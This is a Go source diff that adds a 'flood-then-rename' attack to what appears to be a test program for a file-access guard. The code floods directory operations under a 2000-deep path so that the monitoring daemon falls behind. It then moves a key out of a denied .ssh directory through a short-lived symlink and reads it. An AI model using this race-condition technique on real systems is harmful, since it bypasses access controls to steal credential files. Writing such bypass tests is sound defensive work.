@@ -305,6 +305,22 @@ func main() {
 			b, err = os.ReadFile(os.Args[4])
 			detail = fmt.Sprintf("read %d bytes through %s", len(b), os.Args[4])
 		}
+	case "flood-then-rename":
+		// arg: a writable mount (/work); Args[3]: a denied directory in
+		// it (/work/.ssh); Args[4]: the key's name there; Args[5]: where
+		// to put it; Args[6]: seconds to flood after the rename. Threads
+		// make and remove directories at the bottom of a chain 2000 deep
+		// (long paths, costly to resolve), to keep the daemon's rename
+		// reader behind; then the key leaves through a symlink removed at
+		// once, and the flood goes on, so that the move would be read
+		// long before the claim of the kernel's account of it.
+		secs, _ := strconv.Atoi(os.Args[6])
+		err = floodThenRename(arg, os.Args[3], os.Args[4], os.Args[5], time.Duration(secs)*time.Second)
+		if err == nil {
+			var b []byte
+			b, err = os.ReadFile(os.Args[5])
+			detail = fmt.Sprintf("read %d bytes through %s", len(b), os.Args[5])
+		}
 	case "rename-then-rmdir":
 		// arg: a directory inside a denied one (/work/.ssh/keys);
 		// Args[3]: the key's name in it; Args[4]: where to put it. The key
@@ -466,4 +482,53 @@ func renameDeep(work, key, to string) error {
 		return err
 	}
 	return unix.Renameat(unix.AT_FDCWD, filepath.Join("l", base), unix.AT_FDCWD, to)
+}
+
+// floodThenRename is the attack "flood-then-rename".
+func floodThenRename(mount, denied, key, to string, flood time.Duration) error {
+	fd, err := unix.Open(mount, unix.O_PATH|unix.O_DIRECTORY, 0)
+	if err != nil {
+		return err
+	}
+	for i := 0; i < 2000; i++ {
+		if err := unix.Mkdirat(fd, "d", 0o700); err != nil && !errors.Is(err, unix.EEXIST) {
+			return err
+		}
+		next, err := unix.Openat(fd, "d", unix.O_PATH|unix.O_DIRECTORY, 0)
+		unix.Close(fd)
+		if err != nil {
+			return err
+		}
+		fd = next
+	}
+	var stop atomic.Bool
+	var removed atomic.Int64
+	for k := 0; k < 4; k++ {
+		go func() {
+			runtime.LockOSThread()
+			name := fmt.Sprintf("x%d", k)
+			for !stop.Load() {
+				unix.Mkdirat(fd, name, 0o700)
+				if unix.Unlinkat(fd, name, unix.AT_REMOVEDIR) == nil {
+					removed.Add(1)
+				}
+			}
+		}()
+	}
+	for removed.Load() < 20_000 {
+		runtime.Gosched() // the flood under way first
+	}
+	lnk := filepath.Join(os.Getenv("HOME"), "lnk")
+	os.Remove(lnk)
+	if err := os.Symlink(denied, lnk); err != nil {
+		return err
+	}
+	err = unix.Renameat(unix.AT_FDCWD, filepath.Join(lnk, key), unix.AT_FDCWD, to)
+	os.Remove(lnk)
+	if err != nil {
+		return err
+	}
+	time.Sleep(flood) // the attack's own pacing: the flood goes on
+	stop.Store(true)
+	return nil
 }
